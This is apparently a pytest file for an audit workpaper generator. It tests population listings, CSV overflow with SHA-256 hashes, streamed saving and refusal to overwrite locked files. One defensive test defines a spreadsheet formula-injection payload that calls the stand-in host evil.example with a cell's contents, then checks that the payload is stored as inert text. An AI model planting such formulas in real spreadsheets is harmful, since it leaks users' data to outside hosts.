"""The workbooks as files: the population listing (sheet or CSV), streamed saving, never half written, locked targets.

Expected values come from the stage results the listing lays out (``AttributeTesting.population_results``: the
pass/fail counts per attribute over the same records) and from the raw bytes (SHA-256 of the CSV).
"""

from __future__ import annotations

import csv
import os
import zipfile

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from conftest import copy_engagement, run_stages
from workbench.errors import FileInUseError
from workbench.files import sha256_file
from workbench.workpaper import write_workpaper
from workbench.workpaper.streaming import StreamedTable, save_streamed

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def cm01(tmp_path_factory, demo_type2) -> dict:
    folder = copy_engagement(demo_type2, tmp_path_factory.mktemp("books") / "acme-type2")
    stages = run_stages(folder, "CM-01")
    out = folder / "output"
    path = write_workpaper(out, stages["test"])
    return {"stages": stages, "path": path, "out": out, "book": load_workbook(path)}


def _listing(ws) -> tuple[list[str], list[tuple]]:
    rows = list(ws.iter_rows(values_only=True))
    start = next(i for i, row in enumerate(rows) if row[0] == "Change id")
    return list(rows[start]), rows[start + 1:]


def test_the_listing_holds_every_record_in_scope_with_each_automated_outcome(cm01):
    testing = cm01["stages"]["testing"]
    ws = cm01["book"]["Population listing"]
    header, rows = _listing(ws)
    assert header == ["Change id", "Deployed at", "Source row", "Sample #",
                      "Ticket before deployment (ticket_before_deployment)",
                      "Approved before deployment (approved_before_deployment)",
                      "Approver not author (approver_not_author)", "Failed attributes"]
    assert len(rows) == testing.population_count == 1467
    for attribute_id, column in (("ticket_before_deployment", 4), ("approved_before_deployment", 5),
                                 ("approver_not_author", 6)):
        expected = testing.population_results.set_index("attribute_id").loc[attribute_id]
        outcomes = pd.Series([row[column] for row in rows])
        assert (outcomes == "pass").sum() == expected["pass"]
        assert (outcomes == "fail").sum() == expected["fail"]
    sampled = {row[0]: row[3] for row in rows if row[3] is not None}
    assert sampled == {key: n for n, key in enumerate(testing.sample_keys, start=1)}
    failed = {row[0]: row[7] for row in rows if row[7]}
    assert failed["CHG-2151"] == "ticket_before_deployment; approved_before_deployment"
    assert ws.auto_filter.ref == f"A17:H{17 + 1467}"
    assert ws["B12"].value == 1467 and ws["A12"].value == "Records in scope"


def test_past_the_cap_the_listing_goes_to_a_csv_named_with_its_sha256(cm01, tmp_path):
    path = write_workpaper(tmp_path, cm01["stages"]["test"], listing_cap=1000)
    ws = load_workbook(path)["Population listing"]
    labels = {row[0]: row[1] for row in ws.iter_rows(min_row=9, values_only=True) if row[0]}
    csv_path = tmp_path / "CM-01.population.csv"
    assert labels["CSV file"] == "CM-01.population.csv"
    assert labels["CSV SHA-256"] == sha256_file(csv_path)
    assert "1,467 records are more than a sheet holds here (at most 1,000)" in labels["Listing"]
    with open(csv_path, encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert rows[0][:4] == ["Change id", "Deployed at", "Source row", "Sample #"]
    assert len(rows) == 1 + 1467
    assert ws.max_row < 20   # no listing on the sheet
    # a later, smaller listing fits the sheet again: the CSV of the earlier one goes
    write_workpaper(tmp_path, cm01["stages"]["test"])
    assert not csv_path.exists()


def test_streamed_client_text_is_never_a_formula(tmp_path):
    book = Workbook()
    book.active.title = "Listing"
    book.active["A1"] = "laid out"
    values = pd.Series([PAYLOAD, "+1", "-x", "@SUM(A1)", "plain", None, "bell\x07"], dtype=object)
    table = StreamedTable("Listing", 3, ("Text", "Number"), (values, pd.Series(range(7))))
    path = save_streamed(book, tmp_path / "listing.xlsx", [table])
    ws = load_workbook(path)["Listing"]
    cells = [ws.cell(row=r, column=1) for r in range(4, 11)]
    assert [c.value for c in cells] == [PAYLOAD, "+1", "-x", "@SUM(A1)", "plain", None, "bell\\x07"]
    assert all(c.data_type == "s" for c in cells if c.value is not None)
    assert [c.quotePrefix for c in cells[:4]] == [True] * 4
    assert [ws.cell(row=r, column=2).value for r in range(4, 11)] == list(range(7))
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml


def test_no_formula_anywhere_in_the_workpaper(cm01):
    with zipfile.ZipFile(cm01["path"]) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name


@pytest.mark.parametrize("lock_name", [".~lock.CM-01.xlsx#", "~$CM-01.xlsx"])
def test_a_workpaper_open_in_a_spreadsheet_application_is_not_replaced(cm01, tmp_path, lock_name):
    target = tmp_path / "CM-01.xlsx"
    target.write_bytes(b"the previous workpaper")
    (tmp_path / lock_name).write_text("user,host,2026-11-27", encoding="utf-8")
    with pytest.raises(FileInUseError) as raised:
        write_workpaper(tmp_path, cm01["stages"]["test"])
    assert str(raised.value) == (
        f"{target}: not replaced, it is open in a spreadsheet application (its lock file {lock_name} is beside "
        f"it): close it there and run again (if no one has it open, the application ended without removing its "
        f"lock: delete the lock file). Nothing was written.")
    assert target.read_bytes() == b"the previous workpaper"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["CM-01.xlsx", lock_name])


def test_a_refused_replacement_leaves_the_old_file_and_no_temporary_file(cm01, tmp_path, monkeypatch):
    target = tmp_path / "CM-01.xlsx"
    target.write_bytes(b"the previous workpaper")

    def refuse(source, destination):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(FileInUseError, match="the system refused to replace it \\(Permission denied\\)"):
        write_workpaper(tmp_path, cm01["stages"]["test"])
    assert target.read_bytes() == b"the previous workpaper"
    assert [p.name for p in tmp_path.iterdir()] == ["CM-01.xlsx"]


def test_the_summary_and_the_manifest_are_not_replaced_while_open(demo_type2, tmp_path, monkeypatch):
    from workbench.engagement import load_engagement
    from workbench.files import write_json_atomic
    from workbench.workpaper import write_summary

    engagement = load_engagement(demo_type2)
    (tmp_path / ".~lock.summary.xlsx#").write_text("someone", encoding="utf-8")
    with pytest.raises(FileInUseError, match="summary.xlsx: not replaced, it is open in a spreadsheet application"):
        write_summary(tmp_path, engagement, [], {})
    assert not (tmp_path / "summary.xlsx").exists()
    manifest = tmp_path / "manifest.json"
    manifest.write_text("{}", encoding="utf-8")
    monkeypatch.setattr(os, "replace", lambda source, target: (_ for _ in ()).throw(PermissionError(13, "denied")))
    with pytest.raises(FileInUseError, match="manifest.json: not replaced, the system refused to replace it"):
        write_json_atomic(manifest, {"state": "complete"})
    assert manifest.read_text(encoding="utf-8") == "{}"
    assert sorted(p.name for p in tmp_path.iterdir()) == [".~lock.summary.xlsx#", "manifest.json"]


def test_the_write_only_copy_keeps_what_a_laid_out_sheet_uses(tmp_path):
    import datetime as dt

    from openpyxl.styles import Font
    from openpyxl.worksheet.datavalidation import DataValidation

    book = Workbook()
    ws = book.active
    ws.title = "Sign-off"
    ws["A1"] = "title"
    ws["A1"].font = Font(bold=True, size=14)
    ws.merge_cells("A1:C1")
    validation = DataValidation(type="list", formula1='"yes,no"')
    ws.add_data_validation(validation)
    validation.add("B3")
    ws["B3"] = "yes"
    ws["A5"] = 0.125
    ws["A5"].number_format = "0.0%"
    ws["A6"] = dt.date(2026, 1, 2)
    ws["A6"].number_format = "yyyy-mm-dd"
    ws.column_dimensions["B"].width = 33
    ws.row_dimensions[3].height = 45
    ws.freeze_panes = "A3"
    ws.auto_filter.ref = "A2:B3"
    copy = load_workbook(save_streamed(book, tmp_path / "copy.xlsx"))["Sign-off"]
    assert [str(r) for r in copy.merged_cells.ranges] == ["A1:C1"]
    assert str(copy.data_validations.dataValidation[0].sqref) == "B3"
    assert (copy["A1"].value, copy["A1"].font.b, copy["A1"].font.sz) == ("title", True, 14)
    assert (copy["A5"].value, copy["A5"].number_format) == (0.125, "0.0%")
    assert copy["A6"].value == dt.datetime(2026, 1, 2) and copy["A6"].number_format == "yyyy-mm-dd"
    assert copy.column_dimensions["B"].width == 33 and copy.row_dimensions[3].height == 45
    assert copy.freeze_panes == "A3" and copy.auto_filter.ref == "A2:B3"
